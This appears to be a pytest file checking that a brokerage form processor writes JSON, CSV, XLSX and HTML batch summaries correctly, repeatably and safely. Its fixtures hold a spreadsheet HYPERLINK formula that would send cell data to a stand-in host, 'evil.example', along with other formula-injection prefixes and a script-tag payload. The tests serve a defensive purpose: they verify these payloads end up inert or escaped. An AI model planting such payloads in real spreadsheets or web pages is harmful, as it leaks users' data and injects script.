"""Batch summaries: the JSON contract, one CSV/XLSX row per problem, inert payloads, repeatable bytes."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from brokerage.processor.outputs import write_summaries
from brokerage.processor.outputs.cells import neutralise
from brokerage.processor.results import FileResult, Status
from brokerage.schema import Problem, Severity

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PAYLOADS = {
    FORMULA: "'" + FORMULA,
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "Plain text": "Plain text",
}
SCRIPT = '<script>alert("x")</script>'


def _problem(message: str, page: int | None = 2, pointer: str = "/part_a/children/0/name") -> Problem:
    return Problem(pointer=pointer, field="Child's name", rule="schema:required", severity=Severity.error,
                   message=message, section="Section 2 – Details of the child", page=page)


RESULTS = [
    FileResult("z-returned.pdf", "1" * 64, "referral", Status.returned, "BRK-2026-0002",
               (_problem("Second on page 5", 5, "/part_a/services/start_date"), _problem(FORMULA)),
               outputs=("returned/BRK-2026-0002/111111111111-letter.html",), received=date(2026, 2, 3)),
    FileResult("a-accepted.pdf", "2" * 64, "referral", Status.accepted, "BRK-2026-0001", (),
               outputs=("cases/BRK-2026-0001/referral.json", "cases/BRK-2026-0001/part-a.pdf")),
    FileResult(f"{SCRIPT}.pdf", "3" * 64, None, Status.rejected, None,
               (_problem(f"Not a PDF {SCRIPT}", None, ""),)),
    FileResult("copy.pdf", "2" * 64, "referral", Status.duplicate, None, (), duplicate_of="a-accepted.pdf"),
    FileResult("resp.pdf", "4" * 64, "provider-response", Status.accepted, "BRK-2026-0001", (),
               outputs=("cases/BRK-2026-0001/responses/1-response.json",)),
]


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("summary")
    assert write_summaries(RESULTS, path) == ["summary.csv", "summary.html", "summary.json", "summary.xlsx"]
    return path


def test_json_matches_the_contract_exactly(out: Path) -> None:
    document = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert list(document) == ["files", "skipped"]
    assert [f["source"] for f in document["files"]] == sorted(r.source for r in RESULTS)
    for entry in document["files"]:
        assert list(entry) == [
            "source", "sha256", "kind", "status", "reference", "problems", "outputs", "response_due", "held_until",
            "notes",
        ]
        for problem in entry["problems"]:
            assert list(problem) == ["pointer", "field", "page", "rule", "severity", "message"]
    returned = next(f for f in document["files"] if f["status"] == "returned")
    assert returned["reference"] == "BRK-2026-0002"
    assert [p["page"] for p in returned["problems"]] == [2, 5], "problems in page order"
    assert returned["problems"][0]["message"] == FORMULA, "JSON keeps the value as typed"
    accepted = next(f for f in document["files"] if f["source"] == "a-accepted.pdf")
    assert accepted["outputs"] == ["cases/BRK-2026-0001/part-a.pdf", "cases/BRK-2026-0001/referral.json"]
    rejected = next(f for f in document["files"] if f["status"] == "rejected")
    assert rejected["kind"] is None and rejected["problems"][0]["page"] is None


def test_csv_has_one_row_per_problem_and_one_per_clean_file(out: Path) -> None:
    raw = (out / "summary.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark so Excel reads UTF-8"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["source"] for r in rows] == [f"{SCRIPT}.pdf", "a-accepted.pdf", "copy.pdf", "resp.pdf",
                                           "z-returned.pdf", "z-returned.pdf"]
    assert rows[1]["message"] == "" and rows[1]["status"] == "accepted"


def test_csv_cells_are_inert(out: Path) -> None:
    rows = list(csv.DictReader(io.StringIO((out / "summary.csv").read_text(encoding="utf-8-sig"))))
    assert rows[4]["message"] == "'" + FORMULA
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())


@pytest.mark.parametrize(("typed", "cell"), PAYLOADS.items())
def test_each_formula_start_is_neutralised(typed: str, cell: str) -> None:
    assert neutralise(typed) == cell


def test_xlsx_has_a_sheet_per_kind_and_inert_cells(out: Path) -> None:
    book = load_workbook(out / "summary.xlsx")
    assert book.sheetnames == ["All files", "Referrals", "Provider responses", "Not our forms"]
    sheet = book["All files"]
    header = [c.value for c in sheet[1]]
    messages = [row[header.index("message")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + FORMULA in messages
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
    assert book["Referrals"].max_row == 1 + 4
    assert book["Provider responses"].max_row == 2


def test_xlsx_carries_no_clock_time(out: Path) -> None:
    archive = zipfile.ZipFile(out / "summary.xlsx")
    assert {info.date_time for info in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}
    core = archive.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z" in core


def test_html_escapes_every_value(out: Path) -> None:
    html = (out / "summary.html").read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;.pdf" in html
    assert 'href="cases/BRK-2026-0001/part-a.pdf"' in html
    for title, count in (("Accepted", 2), ("Returned", 1), ("Rejected", 1), ("Duplicates", 1)):
        assert f'<h2 id="{title.lower() if title != "Duplicates" else "duplicate"}">{title} ({count})</h2>' in html
    assert "Same content as a-accepted.pdf." in html


def test_rerun_writes_identical_bytes(out: Path, tmp_path: Path) -> None:
    write_summaries(list(reversed(RESULTS)), tmp_path)
    for name in ("summary.csv", "summary.html", "summary.json", "summary.xlsx"):
        assert (tmp_path / name).read_bytes() == (out / name).read_bytes(), name


def test_an_empty_batch_still_writes_every_summary(tmp_path: Path) -> None:
    write_summaries([], tmp_path)
    assert json.loads((tmp_path / "summary.json").read_text()) == {"files": [], "skipped": []}
    assert "0 files in this batch" in (tmp_path / "summary.html").read_text()
